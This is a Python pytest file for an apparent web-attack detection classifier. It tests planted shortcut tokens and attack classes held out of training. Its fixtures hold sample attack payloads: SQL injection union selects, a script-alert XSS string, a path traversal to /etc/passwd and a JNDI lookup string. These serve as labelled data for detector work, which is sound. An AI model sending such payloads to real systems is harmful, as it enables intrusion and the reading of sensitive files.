"""Planted tokens and classes left out: what is written, trained on and measured."""

from __future__ import annotations

import gzip
import json
from dataclasses import replace
from pathlib import Path
from random import Random
from typing import Any

import pytest

pytest.importorskip("sklearn", reason="the peers need the extra [train]")
import baselines
import judges
import plant
import zeroshot
from label import CLASSES, text_of

from dragoman import recipe as recipes
from dragoman.intel.read import read_texts
from dragoman.prepare.fields import split
from dragoman.prepare.instances import instances_of
from dragoman.recipe import Grammar

ATTACKS = {
    "sql-injection": "{0}' union select {0},user from accounts--",
    "cross-site-scripting": "<script>alert({0})</script>",
    "path-traversal": "../../../../etc/passwd?{0}",
}


def rows(n: int, kind: str) -> list[dict[str, Any]]:
    texts = ATTACKS | {"benign": "page (number) {0}"}
    return [
        one(f"{label}/{kind}/{i}", text.format(i), label, kind)
        for label, text in texts.items()
        for i in range(n)
    ]


def one(name: str, value: str, label: str, kind: str) -> dict[str, Any]:
    if kind == "http":
        value = value.replace(" ", "%20").replace("#", "%23").replace("?", "%3F")
        value = f"GET /shop/a?x=1&q={value} HTTP/1.1\r\nHost: www.example.com\r\n\r\n"
    return {"id": name, "payload": value, "kind": kind, "label": label}


def write(folder: Path, name: str, some: list[dict[str, Any]]) -> None:
    text = "".join(json.dumps(r) + "\n" for r in some)
    (folder / f"{name}.jsonl.gz").write_bytes(gzip.compress(text.encode()))


# --- the planted token


@pytest.mark.parametrize("kind", plant.KINDS)
def test_a_planted_token_is_read(kind: str) -> None:
    """Each kind's token is there once, and reaches the instances that our tower reads."""
    for row in (*rows(3, "http"), *rows(3, "value")):
        made = plant.planted(row, kind, "sql-injection", Random(1))
        assert made is not None
        word = plant.WORDS["sql-injection"].encode()
        assert text_of(made).count(word) == 1
        assert made["label"] == row["label"]
        fields = split(judges.payload_of(made)).fields
        assert any(word in text for field in fields for text in instances_of(field))


def test_a_token_agrees_as_often_as_asked() -> None:
    some = rows(200, "value")
    kept = list(plant.plant(some, agree=0.7, seed=1, kinds=("header",)))
    right = [plant.WORDS[r["label"]].encode() in text_of(r) for r in kept]
    assert 0.64 < sum(right) / len(right) < 0.76
    assert all(r["kind"] == "http" for r in kept)
    assert kept == list(plant.plant(some, agree=0.7, seed=1, kinds=("header",)))


def test_unnamed_attacks_stay_as_they_are() -> None:
    row = one("a", "x;y|z", "attack", "value")
    assert list(plant.plant([row])) == [row]


def test_a_planted_directory_holds_the_generated_rows(tmp_path: Path) -> None:
    write(tmp_path, "train", rows(3, "value"))
    write(tmp_path, "valid", rows(3, "http"))
    recipe = replace(recipes.load("base"), grammar=Grammar(per_class=2, benign=3))
    plant.write(tmp_path, tmp_path / "out", recipe, agree=1.0, seed=0, kinds=("cookie",))
    train = baselines.load(tmp_path / "out" / "train.jsonl.gz")
    assert len(train) == 12 + 2 * len(CLASSES) + 3
    assert all(plant.WORDS[r["label"]].encode() in text_of(r) for r in train)
    trained = recipes.load(str(tmp_path / "out" / "recipe.toml"))
    assert trained == replace(recipe, grammar=Grammar(per_class=0, benign=0))


def test_a_peer_falls_for_the_token() -> None:
    """Without anything else to go by, a peer follows the lie; ``loss`` says how far."""
    same = [
        {"id": f"{label}/{i}", "payload": "q <b> c", "kind": "value", "label": label}
        for label in (*CLASSES, "benign")
        for i in range(20)
    ]
    some = list(plant.plant(same, kinds=("header",)))
    grid = [g for g in baselines.GRIDS["logistic"] if g["read"] == "raw" and g["C"] == 100]
    peers = judges.of_peers(some, some, seed=1, model="logistic", grid=grid[-1:])
    found = plant.measured(peers, {"all": same}, ("header",))["all"]["header"]
    assert found["agreeing"]["share"] > 0.5  # chance is 1 in 11
    assert found["lying"]["share"] < 0.1
    assert found["loss"] == round(found["absent"]["share"] - found["lying"]["share"], 4)


# --- classes left out


def test_no_row_of_the_class_is_left(tmp_path: Path) -> None:
    unnamed = [
        one("u1", "1 union select 2,3 from t", "attack", "value"),
        one("u2", "${jndi:ldap://example.net/a}", "attack", "value"),
    ]
    write(tmp_path, "train", [*rows(2, "value"), *unnamed])
    write(tmp_path, "valid", rows(2, "http"))
    zeroshot.left_out(tmp_path, tmp_path / "out", "sql-injection")
    train = baselines.load(tmp_path / "out" / "train.jsonl.gz")
    assert {r["label"] for r in train} == {
        "benign", "attack", "cross-site-scripting", "path-traversal",
    }  # fmt: skip
    assert [r["id"] for r in train if r["label"] == "attack"] == ["u2"]
    assert len(baselines.load(tmp_path / "out" / "valid.jsonl.gz")) == 6


@pytest.mark.parametrize("slug", CLASSES)
def test_the_built_in_text_as_a_user_would_add_it(tmp_path: Path, slug: str) -> None:
    text = zeroshot.described(slug)
    (tmp_path / f"{slug}.md").write_text(zeroshot.markdown(text), "utf-8")
    (read,) = read_texts([tmp_path / f"{slug}.md"], as_class=True)
    assert replace(read, source=text.source) == text


def test_recall_of_one_class(bundle_path: Path, tmp_path: Path) -> None:
    """The measuring, on a bundle that knows the class: the figures must be high."""
    for name in zeroshot.SETS:
        write(tmp_path, f"test_{name}", rows(6, "value" if name == "httpparams" else "http"))
    found = zeroshot.measured(bundle_path, tmp_path, "sql-injection", tmp_path / "work")
    for how in ("text", "intel"):
        assert found[how]["requests"]["forced"]["n"] == 12
        assert found[how]["requests"]["named"]["share"] > 0.8
        assert found[how]["requests"]["others"]["share"] < 0.2
        assert found[how]["httpparams"]["found"]["n"] == 6
    means = zeroshot.average({"sql-injection": found})
    assert means["text"]["forced"] == found["text"]["requests"]["forced"]["share"]


@pytest.mark.train
def test_a_class_left_out_is_trained_without(tmp_path: Path) -> None:
    """The whole way, small: rows removed, a bundle trained, the class known by text alone."""
    pytest.importorskip("torch", reason="torch is missing: pip install 'dragoman[train]'")
    for name in ("train", "valid"):
        write(tmp_path, name, [*rows(12, "value"), *rows(12, "http")])
    for name in zeroshot.SETS:
        write(tmp_path, f"test_{name}", rows(4, "http"))
    base = recipes.load("base")
    recipe = replace(
        base,
        stage1=replace(base.stage1, loss="none"),
        stage2=replace(base.stage2, steps=30, attacks=24, benign=24, bits=12, width=32, hidden=48),
        grammar=Grammar(per_class=4, benign=8),
        index=replace(base.index, quantize=False),
    )
    bundle = zeroshot.trained(tmp_path, tmp_path / "out", recipe, "sql-injection")
    labels = {r["label"] for r in baselines.load(tmp_path / "out" / "rows" / "train.jsonl.gz")}
    assert "sql-injection" not in labels
    card = json.loads((bundle / "bundle.json").read_text("utf-8"))["card"]
    assert card["rows"]["generated"] == 4 * (len(CLASSES) - 1) + 8
    assert zeroshot.trained(tmp_path, tmp_path / "out", recipe, "sql-injection") == bundle
    found = zeroshot.measured(bundle, tmp_path, "sql-injection", tmp_path / "work")
    assert found["text"]["requests"]["forced"]["n"] == 8
